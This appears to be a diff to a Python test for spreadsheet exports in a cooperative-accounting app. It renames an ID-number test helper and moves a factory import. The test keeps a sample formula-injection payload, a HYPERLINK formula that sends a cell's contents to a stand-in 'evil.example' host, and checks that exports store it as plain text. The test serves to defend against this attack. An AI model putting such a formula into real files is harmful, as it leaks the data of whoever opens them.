@@ -7,6 +7,7 @@ from decimal import Decimal
 
 from openpyxl import load_workbook
 
+from caoyuan.identity import example_id_number
 from coop.posting import LiveSalePaid, post
 from coop.rules.charter import Terms
 from coop.services.charter import record_charter
@@ -14,7 +15,7 @@ from coop.services.contributions import ContributionIn, contribute
 from coop.services.distribution import compute_draft
 from coop.services.member_io import export_members
 from coop.services.statements import publicity_xlsx
-from coop.testing import fake_id_number, make_cooperative
+from tests.factories.coop import make_cooperative
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&C3,"领补贴")'
 
@@ -46,7 +47,7 @@ async def test_exports_neutralise_formulas_and_keep_amounts_numbers(db, backend)
     _assert_no_formula(members_file)
     values = [c.value for c in _cells(members_file)]
     assert "'" + EVIL_NAME in values  # the name is kept, as text
-    assert fake_id_number(1) in values  # --with-id-numbers writes them whole, as plain text
+    assert example_id_number(1) in values  # --with-id-numbers writes them whole, as plain text
 
     _assert_no_formula(publicity_file)
     sheet = load_workbook(io.BytesIO(publicity_file)).worksheets[0]
